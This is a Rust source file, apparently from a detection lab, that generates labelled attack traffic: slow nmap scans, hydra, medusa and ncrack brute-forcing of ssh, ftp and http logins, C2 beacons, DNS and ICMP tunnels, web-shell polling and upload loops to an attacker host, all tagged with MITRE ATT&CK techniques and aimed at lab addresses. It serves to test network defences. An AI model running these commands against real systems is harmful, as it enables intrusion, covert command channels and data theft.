//! Attacks that load nobody: guessed passwords, slow scans, beacons, tunnels, and what is carried away.

use super::kind::{Kind, LEAST, Scope, Side, Steps, away, kind, shell};
use super::rng::Rng;
use std::fmt::Write as _;
use std::net::Ipv4Addr;

/// The domain of tunnels (RFC 6761 keeps `test` free for such).
const TUNNEL: &str = "t.lab.test";
/// Where somebody carries to what is stolen, over ssh.
const SSH: u16 = 2222;

/// Far from its target, some have no more than a guess or a beat behind them when the time is up.
const FEWEST: u64 = 8;

const fn quiet(kind: Kind) -> Kind {
    let least = if kind.least == LEAST { FEWEST } else { kind.least };
    Kind {
        least,
        quiet: true,
        ..kind
    }
}

const fn v6(kind: Kind) -> Kind {
    Kind { v6: true, ..kind }
}

/// All of them.
pub(super) const KINDS: &[Kind] = &[
    quiet(Kind {
        least: 10,
        ..kind("slow scan", "scan_slow", &["nmap"], 3, |rng, to| {
            let (how, delay, from) = (rng.one(&["-sS", "-sT"]), rng.within(200..=1500), rng.within(1..=5000));
            away(&format!(
                "nmap -n -Pn {how} --max-retries 0 --scan-delay {delay}ms -p{from}-{} {}",
                from + 400,
                to.target
            ))
        })
    }),
    quiet(Kind {
        least: 10,
        ..kind("slow scan of well-known ports", "scan_slow", &["nmap"], 3, |rng, to| {
            away(&format!(
                "nmap -n -Pn -sS -T2 --max-retries 0 --max-rate {} --top-ports {} {}",
                rng.within(1..=3),
                rng.within(60..=200),
                to.target
            ))
        })
    }),
    quiet(v6(Kind {
        least: 10,
        ..kind("slow scan, IPv6", "scan_slow", &["nmap"], 3, |rng, to| {
            let (delay, from) = (rng.within(200..=1500), rng.within(1..=5000));
            away(&format!(
                "nmap -6 -n -Pn -sS --max-retries 0 --scan-delay {delay}ms -p{from}-{} {}",
                from + 400,
                to.target6
            ))
        })
    })),
    quiet(kind("ssh brute force, hydra", "bf_ssh", &["hydra"], 1, |rng, to| {
        guess(rng, 4..=16, &format!("ssh://{}", to.target))
    })),
    quiet(kind("ssh brute force, medusa", "bf_ssh", &["medusa"], 2, |rng, to| {
        away(&format!(
            "medusa -h {} -u {} -P {{passwords}} -M ssh -t {}",
            to.target,
            rng.one(NAMES),
            rng.within(1..=6)
        ))
    })),
    quiet(kind("ssh brute force, ncrack", "bf_ssh", &["ncrack"], 2, |rng, to| {
        ncrack(rng, &format!("ssh://{}", to.target))
    })),
    quiet(kind("ssh brute force, slow", "bf_ssh", &["hydra"], 5, |rng, to| {
        patient(rng, &format!("ssh://{}", to.target))
    })),
    quiet(v6(kind("ssh brute force, IPv6", "bf_ssh", &["hydra"], 1, |rng, to| {
        guess(rng, 2..=8, &format!("-6 ssh://[{}]", to.target6))
    }))),
    quiet(kind(
        "ftp brute force, hydra",
        "bf_ftp",
        &["hydra", "vsftpd"],
        2,
        |rng, to| guess(rng, 2..=16, &format!("ftp://{}", to.target)),
    )),
    quiet(kind(
        "ftp brute force, medusa",
        "bf_ftp",
        &["medusa", "vsftpd"],
        2,
        |rng, to| {
            away(&format!(
                "medusa -h {} -u {} -P {{passwords}} -M ftp -t {}",
                to.target,
                rng.one(NAMES),
                rng.within(1..=8)
            ))
        },
    )),
    quiet(kind(
        "ftp brute force, ncrack",
        "bf_ftp",
        &["ncrack", "vsftpd"],
        2,
        |rng, to| ncrack(rng, &format!("ftp://{}", to.target)),
    )),
    quiet(kind(
        "ftp brute force, slow",
        "bf_ftp",
        &["hydra", "vsftpd"],
        5,
        |rng, to| patient(rng, &format!("ftp://{}", to.target)),
    )),
    quiet(v6(kind(
        "ftp brute force, IPv6",
        "bf_ftp",
        &["hydra", "vsftpd"],
        2,
        |rng, to| guess(rng, 1..=8, &format!("-6 ftp://[{}]", to.target6)),
    ))),
    quiet(kind("http brute force, hydra", "bf_http", &["hydra"], 1, |rng, to| {
        guess(rng, 2..=12, &format!("http-get://{}/admin/", to.target))
    })),
    quiet(kind("http brute force, slow", "bf_http", &["hydra"], 5, |rng, to| {
        patient(rng, &format!("http-get://{}/admin/", to.target))
    })),
    quiet(kind("beacon", "c2", &["curl", "busybox"], 3, |rng, to| {
        beacon(rng, to, false)
    })),
    quiet(v6(kind("beacon, IPv6", "c2", &["curl", "busybox"], 3, |rng, to| {
        beacon(rng, to, true)
    }))),
    quiet(kind("slow beacon", "c2", &["curl", "busybox"], 8, |rng, to| {
        let (every, jitter) = (rng.within(3000..=9000), rng.within(0..=40));
        ask(rng, to, every, jitter, false)
    })),
    quiet(kind(
        "beacon over bare TCP",
        "c2",
        &["busybox", "socat"],
        5,
        |rng, to| {
            let (every, jitter) = (rng.within(800..=5000), rng.within(0..=40));
            let (port, length) = (rng.within(1024..=60000), rng.within(8..=600));
            let script = paced(rng, to, every, jitter, |_| {
                format!("printf '%0{length}d\\n' 7 | busybox nc -w 2 {} {port}; ", to.attacker)
            });
            home(
                format!("exec socat TCP-LISTEN:{port},fork,reuseaddr SYSTEM:'head -n 1'"),
                script,
            )
        },
    )),
    quiet(kind(
        "beacon in one connection",
        "c2",
        &["busybox", "socat"],
        6,
        |rng, to| {
            let (every, jitter) = (rng.within(800..=6000), rng.within(0..=40));
            let (port, length) = (rng.within(1024..=60000), rng.within(8..=300));
            let beats = paced(rng, to, every, jitter, |_| format!("printf '%0{length}d\\n' 7; "));
            home(
                format!("exec socat TCP-LISTEN:{port},fork,reuseaddr EXEC:cat"),
                format!("{{ {beats} }} | busybox nc {} {port}", to.attacker),
            )
        },
    )),
    quiet(Kind {
        // It has begun to carry something.
        least: 60,
        ..kind(
            "dns tunnel, ping inside",
            "dns_tunnel",
            &["iodine", "iodined"],
            4,
            |rng, to| {
                let (length, pause) = (rng.within(32..=900), rng.within(30..=900));
                iodine(rng, to, "", |inside| {
                    format!("ping -q -i 0.{pause:03} -s {length} {inside}")
                })
            },
        )
    }),
    quiet(Kind {
        least: 60,
        ..kind(
            "dns tunnel, web inside",
            "dns_tunnel",
            &["iodine", "iodined"],
            4,
            |rng, to| {
                let pause = rng.within(50..=950);
                iodine(rng, to, "busybox httpd -p 8088 -h {www}; ", |inside| {
                    format!(
                        "while :; do curl -s -m 8 -o /dev/null http://{inside}:8088/{}; sleep 0.{pause:03}; done",
                        "file"
                    )
                })
            },
        )
    }),
    quiet(Kind {
        least: 60,
        ..kind(
            "dns tunnel, dns2tcp",
            "dns_tunnel",
            &["dns2tcpc", "dns2tcpd"],
            4,
            dns2tcp,
        )
    }),
    quiet(Kind {
        least: 60,
        ..kind(
            "icmp tunnel",
            "icmp_tunnel",
            &["ptunnel-ng", "busybox"],
            4,
            |rng, to| {
                let (port, pause) = (rng.within(20000..=30000), rng.within(50..=2500));
                home(
                    "echo 1 > /proc/sys/net/ipv4/icmp_echo_ignore_all; busybox httpd -p 127.0.0.1:8088 -h {www}; \
                 exec ptunnel-ng -r127.0.0.1 -R8088"
                        .into(),
                    format!(
                        "ptunnel-ng -p {} -l {port} -r127.0.0.1 -R8088 & sleep 1; \
                     while :; do curl -s -m 8 -o /dev/null http://127.0.0.1:{port}/{}; sleep {}.{:03}; done",
                        to.attacker,
                        rng.one(&["file", "task"]),
                        pause / 1000,
                        pause % 1000
                    ),
                )
            },
        )
    }),
    quiet(kind("a file in pings", "icmp_tunnel", &["hping3"], 3, |rng, to| {
        Steps {
            serve: None,
            side: Side::Protected,
            line: shell(format!(
                "hping3 -q --icmp -d {} --sign lab --file {{www}}/file -i u{} {}",
                rng.within(100..=1000),
                rng.within(20..=400) * 1000,
                to.attacker
            )),
        }
    })),
    quiet(Kind {
        least: 60,
        ..kind(
            "dns tunnel, from outside",
            "dns_tunnel",
            &["iodine", "iodined"],
            4,
            |rng, to| {
                let tunnel = Iodine::new(rng);
                let (length, pause) = (rng.within(32..=900), rng.within(30..=900));
                let at = beside(to);
                Steps {
                    serve: Some(shell(format!("exec {}", tunnel.server(at)))),
                    side: Side::Attacker,
                    line: shell(format!(
                        "{} & sleep 3; ping -q -i 0.{pause:03} -s {length} {}",
                        tunnel.client(at),
                        tunnel.inside()
                    )),
                }
            },
        )
    }),
    quiet(Kind {
        least: 60,
        ..kind(
            "dns tunnel, by a resolver",
            "dns_tunnel",
            &["iodine", "iodined", "dnsmasq"],
            3,
            |rng, to| {
                let tunnel = Iodine::new(rng);
                let (length, pause) = (rng.within(32..=900), rng.within(30..=900));
                let at = beside(to);
                // The tool asks its own host, which asks each question anew from a port of its own.
                let resolver = Ipv4Addr::LOCALHOST;
                Steps {
                    serve: Some(shell(format!("exec {}", tunnel.server(at)))),
                    side: Side::Attacker,
                    line: shell(format!(
                        "dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --user=root --pid-file= \
                         --cache-size=0 --bind-interfaces --listen-address={resolver} --server=/{TUNNEL}/{at} & \
                         sleep 1; {} & sleep 3; ping -q -i 0.{pause:03} -s {length} {}",
                        tunnel.client(resolver),
                        tunnel.inside()
                    )),
                }
            },
        )
    }),
    quiet(kind(
        "a file in names",
        "dns_tunnel",
        &["dig", "dnsmasq", "shuf"],
        4,
        |rng, to| {
            home(
                format!(
                    "exec dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --user=root --pid-file= \
                     --local-ttl=0 --address=/{TUNNEL}/{}",
                    to.attacker
                ),
                names(rng, to.attacker),
            )
        },
    )),
    quiet(kind(
        "a file in names, from outside",
        "dns_tunnel",
        &["dig", "dnsmasq", "shuf"],
        4,
        |rng, to| Steps {
            serve: None,
            side: Side::Attacker,
            line: shell(names(rng, to.target)),
        },
    )),
    quiet(Kind {
        least: 60,
        ..kind(
            "icmp tunnel, from outside",
            "icmp_tunnel",
            &["ptunnel-ng", "busybox"],
            4,
            |rng, to| {
                let (port, pause) = (rng.within(20000..=30000), rng.within(50..=2500));
                Steps {
                    serve: Some(shell("exec ptunnel-ng -r127.0.0.1 -R80".into())),
                    side: Side::Attacker,
                    line: shell(format!(
                        "ptunnel-ng -p {} -l {port} -r127.0.0.1 -R80 & sleep 1; \
                     while :; do curl -s -m 8 -o /dev/null http://127.0.0.1:{port}/{}; sleep {}.{:03}; done",
                        to.target,
                        rng.one(&["file", "page"]),
                        pause / 1000,
                        pause % 1000
                    )),
                }
            },
        )
    }),
    quiet(kind("web shell", "c2", &["curl"], 5, |rng, to| {
        // What was left on the server is asked by its owner (MITRE ATT&CK T1505.003).
        let (every, jitter, longest) = (rng.within(700..=6000), rng.within(0..=50), rng.within(1..=600));
        let script = paced(rng, to, every, jitter, |rng| {
            format!(
                "curl -s -m 3 -o /dev/null -d {:0width$} http://{}/page; ",
                7,
                to.target,
                width = rng.within(1..=longest) as usize
            )
        });
        Steps {
            serve: None,
            side: Side::Attacker,
            line: shell(script),
        }
    })),
    quiet(kind(
        "upload over http",
        "exfiltration",
        &["curl", "busybox"],
        3,
        |rng, to| {
            let (port, kib) = (rng.one(&[80, 443, 8080]), rng.within(500..=16_000));
            let (rate, pause) = (rng.within(200..=2500), rng.within(1..=5));
            home(
                format!("exec busybox httpd -f -p {}:{port} -h {{www}}", to.attacker),
                format!(
                    "while :; do head -c {kib}k /dev/zero | curl -s -m 60 -o /dev/null --limit-rate {rate}k \
                 --data-binary @- http://{}:{port}/cgi-bin/up; sleep {pause}; done",
                    to.attacker
                ),
            )
        },
    )),
    quiet(kind(
        "upload over ssh",
        "exfiltration",
        &["ssh", "sshd"],
        3,
        |rng, to| {
            let (kib, pause) = (rng.within(500..=16_000), rng.within(1..=6));
            home(
                format!("PATH=$PATH:/usr/sbin; exec $(command -v sshd) -D -e -p {SSH} -f {{www}}/sshd.conf"),
                format!(
                    "while :; do head -c {kib}k /dev/zero | ssh -q -p {SSH} -i {{www}}/key -o StrictHostKeyChecking=no \
                 -o UserKnownHostsFile=/dev/null root@{} 'cat > /dev/null'; sleep {pause}; done",
                    to.attacker
                ),
            )
        },
    )),
    quiet(kind(
        "upload in many pieces",
        "exfiltration",
        &["curl", "busybox"],
        4,
        |rng, to| {
            let (port, kib) = (rng.one(&[80, 443, 8080]), rng.within(40..=400));
            let (every, jitter) = (rng.within(300..=2500), rng.within(0..=60));
            let script = paced(rng, to, every, jitter, |_| {
                format!(
                    "head -c {kib}k /dev/zero | curl -s -m 20 -o /dev/null --data-binary @- http://{}:{port}/cgi-bin/up; ",
                    to.attacker
                )
            });
            home(
                format!("exec busybox httpd -f -p {}:{port} -h {{www}}", to.attacker),
                script,
            )
        },
    )),
];

/// Accounts that are guessed at.
const NAMES: &[&str] = &["root", "admin", "clerk", "ftp-user", "postgres"];

/// Something that listens at the attacker, and a script at the protected host that goes there.
fn home(serve: String, script: String) -> Steps {
    Steps {
        serve: Some(shell(serve)),
        side: Side::Protected,
        line: shell(script),
    }
}

fn guess(rng: &mut Rng, tasks: std::ops::RangeInclusive<u64>, at: &str) -> Steps {
    let (name, tasks) = (rng.one(NAMES), rng.within(tasks));
    away(&format!("hydra -I -l {name} -P {{passwords}} -t {tasks} {at}"))
}

/// A guess every few seconds (MITRE ATT&CK T1110.001 below any limit on rates).
fn patient(rng: &mut Rng, at: &str) -> Steps {
    let (name, every) = (rng.one(NAMES), rng.within(1..=4));
    away(&format!("hydra -I -l {name} -P {{passwords}} -c {every} {at}"))
}

fn ncrack(rng: &mut Rng, at: &str) -> Steps {
    let (name, speed, most) = (rng.one(NAMES), rng.within(2..=4), rng.within(1..=10));
    away(&format!(
        "ncrack -T{speed} --connection-limit {most} --user {name} -P {{passwords}} {at}"
    ))
}

/// What is done over and over, with pauses of `every` ms and a jitter in percent, for as long as there is time.
fn paced(rng: &mut Rng, to: Scope, every: u64, jitter: u64, mut what: impl FnMut(&mut Rng) -> String) -> String {
    let every = every.min(to.seconds * 1000 / 5).max(1);
    let spread = every * jitter / 100;
    let mut script = String::new();
    for _ in 0..=to.seconds * 1000 / every {
        let pause = rng.within(every - spread..=every + spread);
        let what = what(rng);
        let _ = write!(script, "{what}sleep {}.{:03}; ", pause / 1000, pause % 1000);
    }
    script
}

/// The infected host asks its master every second or so, with jitter (MITRE ATT&CK T1071.001).
fn beacon(rng: &mut Rng, to: Scope, v6: bool) -> Steps {
    let (every, jitter) = (rng.within(600..=2500), rng.within(2..=30));
    ask(rng, to, every, jitter, v6)
}

fn ask(rng: &mut Rng, to: Scope, every: u64, jitter: u64, v6: bool) -> Steps {
    let port = rng.one(&[80, 443, 8080, 8443]);
    let host = if v6 {
        format!("[{}]", to.attacker6)
    } else {
        to.attacker.to_string()
    };
    // Some only ask, some tell something of a length of its own each time.
    let longest = rng.one(&[0, 0, 40, 900]);
    let script = paced(rng, to, every, jitter, |rng| match longest {
        0 => format!("curl -g -s -m 2 -o /dev/null http://{host}:{port}/task; "),
        longest => format!(
            "curl -g -s -m 2 -o /dev/null -d {:0width$} http://{host}:{port}/cgi-bin/up; ",
            7,
            width = rng.within(1..=longest) as usize
        ),
    });
    home(format!("exec busybox httpd -f -p {host}:{port} -h {{www}}"), script)
}

/// Questions whose names carry something (MITRE ATT&CK T1048.003), some from each port.
fn names(rng: &mut Rng, at: Ipv4Addr) -> String {
    let [short, long] = [rng.within(8..=30), rng.within(31..=100)];
    let (together, label) = (rng.within(1..=6), rng.within(24..=62));
    let pauses = [rng.within(20..=900), rng.within(20..=900)];
    format!(
        "while :; do set --; for n in $(seq $(shuf -n 1 -i 1-{together})); do \
         set -- \"$@\" $(head -c $(shuf -n 1 -i {short}-{long}) /dev/urandom | od -An -v -tx1 | tr -d ' \\n' | \
         fold -w {label} | paste -sd .).{TUNNEL}; done; \
         dig @{at} -b 0.0.0.0#$(shuf -n 1 -i 1024-65000) +short +tries=1 +time=1 \"$@\" > /dev/null; \
         sleep $(shuf -n 1 -e 0.{:03} 0.{:03}); done",
        pauses[0], pauses[1]
    )
}

/// An iodine tunnel's settings.
struct Iodine {
    record: &'static str,
    /// Bytes of a fragment, and of a name.
    sizes: [u64; 2],
    lazy: u64,
    wait: u64,
    /// Inside the tunnel: addresses kept for benchmarks (RFC 2544), never seen at the interface itself.
    net: u64,
}

impl Iodine {
    fn new(rng: &mut Rng) -> Self {
        Self {
            record: rng.one(&["NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME"]),
            sizes: [rng.within(200..=1100), rng.within(120..=255)],
            lazy: rng.within(0..=1),
            wait: rng.within(1..=4),
            net: rng.within(1..=250),
        }
    }

    /// The address of its far end.
    fn inside(&self) -> String {
        format!("198.18.{}.1", self.net)
    }

    fn server(&self, at: Ipv4Addr) -> String {
        format!("iodined -f -c -P lab -l {at} {}/24 {TUNNEL}", self.inside())
    }

    fn client(&self, at: Ipv4Addr) -> String {
        let [fragment, name] = self.sizes;
        format!(
            "iodine -f -r -P lab -T {} -m {fragment} -M {name} -L {} -I {} {at} {TUNNEL}",
            self.record, self.lazy, self.wait
        )
    }
}

/// Where a tunnel's end listens at the protected host: beside the host's own server for names, at an address of its own,
/// numbered by whom it serves.
fn beside(to: Scope) -> Ipv4Addr {
    Ipv4Addr::new(192, 0, 2, super::SWEPT[0] + to.attacker.octets()[3] % 10)
}

/// A tunnel of the infected host's, and what goes through it to its other end.
fn iodine(rng: &mut Rng, to: Scope, before: &str, carry: impl Fn(&str) -> String) -> Steps {
    let tunnel = Iodine::new(rng);
    home(
        format!("{before}exec {}", tunnel.server(to.attacker)),
        format!("{} & sleep 3; {}", tunnel.client(to.attacker), carry(&tunnel.inside())),
    )
}

/// A connection in names: TXT or KEY records, without a device of its own.
fn dns2tcp(rng: &mut Rng, to: Scope) -> Steps {
    let (port, pause) = (rng.within(20000..=30000), rng.within(50..=1500));
    let (record, what) = (rng.one(&["TXT", "KEY"]), rng.one(&["file", "task"]));
    let config = format!(
        "listen = {}\\nport = 53\\nuser = nobody\\nchroot = /tmp\\ndomain = {TUNNEL}\\nkey = lab\\n\
         resources = web:127.0.0.1:8088\\n",
        to.attacker
    );
    home(
        format!(
            "busybox httpd -p 127.0.0.1:8088 -h {{www}}; printf '{config}' > {{www}}/dns2tcpd.{}; \
             exec dns2tcpd -F -d 1 -f {{www}}/dns2tcpd.{}",
            to.attacker, to.attacker
        ),
        format!(
            "dns2tcpc -k lab -z {TUNNEL} -r web -T {record} -l {port} -t 3 {} & sleep 1; \
             while :; do curl -s -m 8 -o /dev/null http://127.0.0.1:{port}/{what}; sleep {}.{:03}; done",
            to.attacker,
            pause / 1000,
            pause % 1000
        ),
    )
}
